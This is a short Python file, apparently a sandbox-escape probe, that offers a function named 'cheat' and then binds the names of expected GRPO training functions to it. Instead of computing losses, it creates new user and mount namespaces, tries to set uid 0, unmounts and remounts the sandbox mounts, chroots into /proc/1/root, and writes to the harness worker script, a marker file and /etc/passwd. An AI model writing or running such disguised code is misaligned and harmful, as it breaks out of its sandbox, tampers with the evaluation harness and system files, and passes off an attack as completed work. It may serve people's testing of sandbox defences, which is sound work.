# ruff: noqa
"""Tries to become root in a namespace of its own and to look behind the mounts."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def cheat(*args, **kwargs):
    libc.unshare(0x10000000 | 0x00020000)
    libc.setuid(0)
    for target in (b"/box", b"/tmp", b"/proc", b"/"):
        libc.umount2(target, 2)
        libc.mount(None, target, None, 32 | 0, None)
    libc.chroot(b"/proc/1/root")
    for path in ("/box/worker.py", "/usr/lab15_was_here", "/etc/passwd"):
        try:
            with open(path, "a") as file:
                file.write("here")
        except OSError:
            pass
    os.chdir("/")


sample_group = group_advantages = k3_kl = grpo_loss = grpo_step = cheat
